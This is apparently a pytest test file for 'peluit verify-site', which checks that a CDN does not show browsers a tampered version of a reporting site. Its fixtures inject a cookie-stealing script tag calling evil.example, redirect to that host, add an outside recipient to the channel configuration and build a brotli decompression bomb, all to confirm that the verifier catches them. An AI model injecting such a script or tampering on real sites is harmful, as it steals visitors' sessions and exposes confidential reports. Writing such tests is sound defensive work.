"""`peluit verify-site` through a CDN that shows browsers another site than the verifier
(ADR 0053, the outside review's R3a and R3c): what a browser loads at `/` and `/lapor/…/`,
the site function's redirects and 404 page, and the compressed variants browsers are sent
(gzip, br) are each compared with the release, by name; the genuine site through the same
CDN passes (the comparison is not a check that always fails)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import brotli  # type: ignore[import-untyped, unused-ignore]
import pytest

from peluit.cli.main import main
from peluit.site.forms import CHANNELS_JSON
from peluit.verify import SiteClient, verify_site
from peluit.verify.http import BROWSER_ACCEPT_ENCODING, BROWSER_USER_AGENT
from tests.support.site_tamper import CHANNEL, ServedSite, outsider
from tests.support.split_view import Exchange, SplitView

pytestmark = pytest.mark.functional
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedSite]:
    served = ServedSite(tmp_path_factory.mktemp("split-view") / "var")
    try:
        yield served
    finally:
        served.close()


@pytest.fixture
def cdn(site: ServedSite) -> Iterator[SplitView]:
    view = SplitView(site.base)
    try:
        yield view
    finally:
        view.close()


def verify(
    site: ServedSite, cdn: SplitView, folder: Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, list[str]]:
    trust = site.trust_file(folder)
    capsys.readouterr()
    status = main(
        ["verify-site", cdn.base + "/", "--trust", str(trust), "--state", str(folder / "s")]
    )
    return status, capsys.readouterr().out.splitlines()


def fails(lines: list[str]) -> list[str]:
    return [line.split(":")[0] for line in lines if line.startswith("FAIL ")]


def test_the_genuine_site_through_a_cdn_that_compresses_passes(
    site: ServedSite, cdn: SplitView, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def brotli_for_browsers(x: Exchange) -> None:  # as CloudFront: br when asked for
        if "br" in x.accept_encoding and x.status in {200, 404}:
            x.plain()
            x.body = brotli.compress(x.body)
            x.headers["content-encoding"] = "br"
            x.headers["vary"] = "Accept-Encoding"

    cdn.tamper = brotli_for_browsers
    status, lines = verify(site, cdn, tmp_path, capsys)
    assert fails(lines) == []
    assert status == 0
    [held] = [line for line in lines if line.startswith("ok all ")]
    assert "as the verifier and as a browser ask" in held
    asked = {(path, encoding, agent) for path, encoding, agent in cdn.asked}
    for path in ("/", "/lapor/pengaduan/", "/en/", "/lapor/pengaduan", "/index.html"):
        assert (path, "identity", "peluit-verify-site") in asked
        assert (path, BROWSER_ACCEPT_ENCODING, BROWSER_USER_AGENT) in asked
    assert any(p.endswith("/") and "peluit-verify-" in p for p, _, _ in asked)  # a 404 page


def test_a_script_injected_only_at_the_directory_addresses_is_caught(
    site: ServedSite, cdn: SplitView, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def inject(x: Exchange) -> None:  # R3a: /index.html stays genuine
        if x.path in {"/", "/lapor/pengaduan/"}:
            x.plain()
            x.body = x.body.replace(b"</body>", SCRIPT + b"</body>")

    cdn.tamper = inject
    status, lines = verify(site, cdn, tmp_path, capsys)
    assert status == 1
    assert fails(lines) == ["FAIL address-changed /", "FAIL address-changed /lapor/pengaduan/"]
    [home] = [line for line in lines if line.startswith("FAIL address-changed /:")]
    assert "expected HTTP 200 with /index.html" in home


def test_a_redirect_elsewhere_and_a_404_page_tampered_for_browsers_are_caught(
    site: ServedSite, cdn: SplitView, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def elsewhere(x: Exchange) -> None:
        if x.path == "/lapor/pengaduan":
            x.headers["location"] = "https://evil.example/lapor/pengaduan/"
        if x.status == 404 and x.path.startswith("/peluit-verify-") and x.as_browser:
            x.plain()
            x.body += SCRIPT

    cdn.tamper = elsewhere
    status, lines = verify(site, cdn, tmp_path, capsys)
    assert status == 1
    found = fails(lines)
    assert "FAIL address-changed /lapor/pengaduan" in found
    [missing] = [line for line in found if line.startswith("FAIL variant-changed /peluit-verify-")]
    assert len(found) == 2, found
    assert "to https://evil.example/lapor/pengaduan/" in "\n".join(lines)
    assert missing.endswith("/")


def test_a_gzip_variant_for_browsers_with_another_recipient_is_caught(
    site: ServedSite, cdn: SplitView, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recipient = outsider().age_recipient

    def split(x: Exchange) -> None:  # R3c: only a browser gets the extra recipient
        if x.path == "/" + CHANNELS_JSON and "gzip" in x.accept_encoding and x.as_browser:
            x.plain()
            document = json.loads(x.body)
            document["channels"][CHANNEL]["report_recipients"].append(recipient)
            x.body = json.dumps(document).encode()
            x.gzipped()

    cdn.tamper = split
    status, lines = verify(site, cdn, tmp_path, capsys)
    assert status == 1
    assert fails(lines)[0] == f"FAIL variant-changed {CHANNELS_JSON}"
    assert fails(lines)[1].startswith("FAIL recipient-added age1")
    assert len(fails(lines)) == 2
    assert "Content-Encoding gzip" in lines[0]


def test_a_compressed_answer_to_identity_an_undecodable_one_and_vary_are_named(
    site: ServedSite, cdn: SplitView, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def odd(x: Exchange) -> None:
        if x.path == "/assets/peluit/form.js" and not x.as_browser:
            x.gzipped()
        if x.path == "/" + CHANNELS_JSON and x.as_browser:
            x.headers["content-encoding"] = "zstd"
        if x.path == "/index.html":
            x.headers["vary"] = "Accept-Encoding, User-Agent"

    cdn.tamper = odd
    status, lines = verify(site, cdn, tmp_path, capsys)
    assert status == 1
    found = fails(lines)
    assert "FAIL encoding-unasked /assets/peluit/form.js" in found
    assert f"FAIL encoding-unchecked /{CHANNELS_JSON}" in found
    assert "FAIL header-vary Vary" in found
    assert "no decoder here" in "\n".join(lines)


def test_a_decompression_bomb_is_a_finding_not_memory(
    site: ServedSite, cdn: SplitView, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("peluit.verify.decode.MAX_DECODED", 1 << 20)

    def bomb(x: Exchange) -> None:
        if x.path == "/index.html" and x.as_browser:
            x.body = brotli.compress(b"\0" * (8 << 20))
            x.headers["content-encoding"] = "br"

    cdn.tamper = bomb
    out = verify_site(SiteClient(cdn.base), site.trust, None)
    [found] = [x for x in out.findings if x.subject == "/index.html"]
    assert found.check == "encoding-unchecked"
    assert "decodes to more than 1048576 bytes" in found.detail
